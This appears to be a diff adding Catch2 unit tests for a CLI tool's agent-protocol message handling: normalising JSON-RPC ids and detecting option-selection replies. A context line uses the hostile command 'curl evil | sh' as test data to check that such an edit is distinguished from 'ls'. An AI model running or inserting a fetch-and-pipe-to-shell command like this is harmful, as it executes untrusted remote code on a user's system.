@@ -37,3 +37,22 @@ TEST_CASE("acp message: edits that are shown in place of arguments are arguments
                         R"("path":"/w/a.sh","title":"Writing to a.sh"})");
     CHECK(edit("ls") != edit("curl evil | sh"));
 }
+
+TEST_CASE("acp message: an id is the same in any form of its number", "[cli]") {
+    const auto id = [](const char* text) { return acp_id(Json::parse(text).value()); };
+    for (const char* five : {"5", "5.0", "5e0", "50e-1"})
+        CHECK(id(five) == "5");
+    CHECK(id("-0") == "0");
+    CHECK(id("5.5") == "5.5");
+    CHECK(id("\"5\"") == "\"5\"");
+    CHECK(id("null") == "null");
+    CHECK(id("18446744073709551615") == "18446744073709551615");
+}
+
+TEST_CASE("acp message: a reply that selects an option is found, in a batch as well", "[cli]") {
+    const auto selects = [](const char* text) { return acp_selects(Json::parse(text).value()); };
+    CHECK(selects(R"({"id":1,"result":{"outcome":{"outcome":"selected","optionId":"y"}}})"));
+    CHECK(selects(R"([1,{"id":1,"result":{"outcome":{"outcome":"selected"}}}])"));
+    CHECK_FALSE(selects(R"({"id":1,"result":{"outcome":{"outcome":"cancelled"}}})"));
+    CHECK_FALSE(selects(R"([{"id":1},[]])"));
+}
